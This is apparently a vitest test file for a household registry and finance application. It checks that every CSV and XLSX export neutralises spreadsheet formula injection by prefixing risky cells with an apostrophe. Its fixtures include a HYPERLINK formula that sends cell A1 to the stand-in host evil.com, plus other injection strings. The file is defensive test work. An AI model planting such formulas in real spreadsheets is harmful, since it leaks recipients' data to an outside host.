// Spreadsheet formula injection (OWASP): every CSV and XLSX the product writes shows a cell that
// starts with =, +, -, @, a tab or a carriage return as text (a leading apostrophe), read back from
// the bytes and cells — the import error report (CSV and XLSX), the household list export, the
// recognised lists and the finance proposal. Numbers stay numbers: a negative amount is a number.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { neutraliseCell } from '../../src/domain/spreadsheet.js';
import { writeErrorReport } from '../../src/services/registry/tabular.js';
import { SYSTEM } from '../../src/services/deps.js';
import { transition } from '../../src/services/registry/campaign.service.js';
import {
  prepareHouseholdExport,
  prepareRecognisedExport,
  writeHouseholdExport,
  writeRecognisedExport,
} from '../../src/services/registry/exports.service.js';
import { recordIssue } from '../../src/services/finance/allocations.service.js';
import { buildProposal, proposalXlsx } from '../../src/services/finance/documents.service.js';
import { DIALECTS, makeDeps, type TestDeps } from '../support/db.js';
import { campaignReadyToRecognise, RECOGNISE } from '../support/certificates.js';
import { buildAllocation } from '../support/finance.js';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

async function cellsOf(bytes: Buffer): Promise<unknown[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const out: unknown[] = [];
  for (const ws of wb.worksheets) ws.eachRow((r) => r.eachCell((c) => out.push(c.value)));
  return out;
}

async function collect(write: (out: PassThrough) => Promise<unknown>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((r) => out.on('end', r));
  await write(out);
  await ended;
  return Buffer.concat(chunks);
}

/** No cell of the file holds text that a spreadsheet would take for a formula. */
function expectNoFormulaText(cells: unknown[]) {
  for (const v of cells) {
    expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);
    if (typeof v === 'string') expect(v).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('neutraliseCell', () => {
  it('prefixes text that could start a formula, and leaves every other value alone', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', EVIL])
      expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const v of ['Nguyễn Văn A', '', "'=already", ' =x', -5, 0, 12.5, null, undefined, true])
      expect(neutraliseCell(v)).toBe(v);
    const d = new Date('2024-06-11T00:00:00Z');
    expect(neutraliseCell(d)).toBe(d);
  });
});

describe('import error report', () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gn-inject-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const rejected = [
    {
      raw: {
        householdId: EVIL,
        unitCode: '@cmd',
        incomePerCapitaMonthly: -5,
        members: [{ name: '-2+3', idNumber: '+84912345678', birthDate: '1990-01-01' }],
      },
      errors: [{ code: 'FIELD_TYPE', field: 'incomePerCapitaMonthly', message: 'x' }],
    },
  ];

  it('CSV: the bytes hold the formula text behind an apostrophe, numbers as numbers', async () => {
    const file = path.join(dir, 'err.csv');
    const [households, members] = await writeErrorReport(file, rejected);
    const h = fs.readFileSync(households!, 'utf8');
    expect(h).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(h).toContain(",'@cmd,");
    expect(h).toContain(',-5,');
    expect(h).not.toMatch(/(^|,)[=+@]/m);
    const m = fs.readFileSync(members!, 'utf8');
    // The members' columns follow the field catalogue's order: each cell is checked on its own.
    expect(m).toContain(",'-2+3,");
    expect(m).toContain(",'+84912345678,");
  });

  it('XLSX: text cells read back with the apostrophe, the negative number as a number', async () => {
    const file = path.join(dir, 'err.xlsx');
    await writeErrorReport(file, rejected);
    const cells = await cellsOf(fs.readFileSync(file));
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).toContain("'-2+3");
    expect(cells).toContain(-5);
    expectNoFormulaText(cells);
  });
});

for (const dialect of DIALECTS) {
  describe(`exports written by the services (${dialect})`, () => {
    let deps: TestDeps;
    beforeEach(async () => {
      deps = await makeDeps(dialect);
    });
    afterEach(async () => deps.cleanup());

    it('the household list and the recognised lists neutralise a village name typed as a formula', async () => {
      const ref = await campaignReadyToRecognise(deps);
      await transition(deps, SYSTEM, { ...ref, action: RECOGNISE });
      await deps.db.kysely
        .updateTable('village')
        .set({ name: EVIL })
        .where('name', '=', 'Tổ dân phố 1')
        .execute();

      const list = await prepareHouseholdExport(deps, SYSTEM, { unitCode: '14830', period: 2024 });
      const listCells = await cellsOf(await collect((out) => writeHouseholdExport(deps, SYSTEM, list, out)));
      expect(listCells).toContain(`'${EVIL}`);
      expect(listCells).toContain(2024);
      expectNoFormulaText(listCells);

      const recognised = await prepareRecognisedExport(deps, SYSTEM, ref);
      const recCells = await cellsOf(
        await collect((out) => writeRecognisedExport(deps, SYSTEM, recognised, out)),
      );
      expect(recCells).toContain(`'${EVIL}`);
      expectNoFormulaText(recCells);
    });

    it('the finance proposal neutralises a decision number typed as a formula; amounts stay numbers', async () => {
      const a = await buildAllocation(deps, { componentCode: 'DA2', decisionNo: '=1+2' });
      await recordIssue(deps, SYSTEM, a.id, {
        reason: 'no-beneficiaries',
        detail: '@SUM(A1)',
        amount: 400_000_000,
        proposal: 'stop',
      });
      const cells = await cellsOf(
        await proposalXlsx(await buildProposal(deps, SYSTEM, { unitCode: '382', year: 2024 })),
      );
      expect(cells).toContain("'=1+2 ngày 26/02/2024");
      expect(cells).toContain(400_000_000);
      expectNoFormulaText(cells);
    });
  });
}
